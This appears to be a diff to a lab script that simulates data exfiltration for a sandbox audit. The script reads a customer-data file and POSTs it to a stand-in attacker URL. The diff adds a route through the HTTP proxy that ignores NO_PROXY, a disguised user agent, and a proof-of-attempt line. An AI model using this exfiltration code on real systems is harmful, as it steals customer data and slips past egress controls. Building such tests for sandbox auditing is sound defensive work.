@@ -18,9 +18,27 @@ import urllib.error
 import urllib.request
 
 
+def lab_input(name):
+    """The lab's input NAME: from the environment, else from a NAME=VALUE
+    argument (a sandbox under audit may clear the environment)."""
+    for arg in sys.argv[1:]:
+        key, eq, value = arg.partition("=")
+        if eq and key == name and not os.environ.get(name):
+            return value
+    return os.environ.get(name)
+
+
+def report_attempt():
+    """Under `audit` the lab asks each attack to say when it makes its move,
+    with a word only this run can form: no word, no verdict."""
+    proof = lab_input("LAB_PROOF")
+    if proof:
+        print(f"lab-attempt: {proof[::-1]}", flush=True)
+
+
 def main():
-    data_path = os.environ.get("LAB_DATA")
-    url = os.environ.get("LAB_ATTACKER")
+    data_path = lab_input("LAB_DATA")
+    url = lab_input("LAB_ATTACKER")
     if not data_path or not url:
         print("LAB_DATA or LAB_ATTACKER is not set: nothing to steal or "
               "nowhere to send it", flush=True)
@@ -34,18 +52,22 @@ def main():
     print(f"read {len(body)} bytes of customer data from {data_path}",
           flush=True)
     print(f"POST {url} (Content-Type: text/csv)", flush=True)
+    report_attempt()
 
-    routes = [("direct", urllib.request.ProxyHandler({}))]
+    # the proxy route ignores NO_PROXY, as injected code would: the
+    # request is aimed at the proxy itself, whatever the bypass list says
+    routes = [("direct", None)]
     proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
     if proxy:
-        routes.append((f"through the proxy {proxy}",
-                       urllib.request.ProxyHandler({"http": proxy})))
-    for how, handler in routes:
+        routes.append((f"through the proxy {proxy}", proxy))
+    for how, via in routes:
         req = urllib.request.Request(
             url, data=body, method="POST",
             headers={"Content-Type": "text/csv",
                      "User-Agent": "agent-helper/1.0"})
-        opener = urllib.request.build_opener(handler)
+        if via:
+            req.set_proxy(via.split("://", 1)[-1].rstrip("/"), "http")
+        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
         try:
             # lab:danger: the POST that ships the customer data to the attacker
             with opener.open(req, timeout=3) as resp:
